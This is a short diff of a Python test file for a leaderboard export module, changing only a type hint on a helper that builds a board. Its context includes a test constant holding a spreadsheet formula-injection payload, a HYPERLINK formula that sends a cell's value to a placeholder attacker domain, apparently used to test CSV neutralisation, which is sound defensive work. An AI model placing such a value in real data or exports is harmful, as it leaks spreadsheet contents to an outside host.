@@ -11,12 +11,12 @@ from leaderboard_factories import T0, entry
 
 from app.leaderboard.export import board_csv, board_json, neutralise
 from app.leaderboard.reference import reported_rows
-from app.leaderboard.view import build_board
+from app.leaderboard.view import Board, build_board
 
 HOSTILE_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-def make_board(team: str = "team a", method: str = "m"):  # type: ignore[no-untyped-def]
+def make_board(team: str = "team a", method: str = "m") -> Board:
     return build_board(
         [entry(7, team, method, "NL", {"ctr": 0.71, "cvr": None, "ctcvr": 0.85}, team_id=1)],
         split="public", revealed=False, country=None, ranking="mean_auc", groups=None,
